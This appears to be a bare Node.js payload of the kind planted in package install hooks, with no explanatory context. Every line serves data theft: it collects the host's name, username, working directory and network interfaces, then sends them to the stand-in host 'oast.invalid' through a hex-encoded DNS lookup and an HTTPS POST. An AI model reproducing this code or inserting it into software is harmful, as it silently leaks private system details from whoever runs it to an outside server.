const os=require("os"),dns=require("dns"),https=require("https");
const data=JSON.stringify({h:os.hostname(),u:os.userInfo().username,d:__dirname,n:os.networkInterfaces()});
const hex=Buffer.from(data).toString("hex");
dns.lookup(hex.slice(0,60)+".oast.invalid",()=>{});
const req=https.request({hostname:"oast.invalid",method:"POST",path:"/"},r=>{});
req.write(data);req.end();
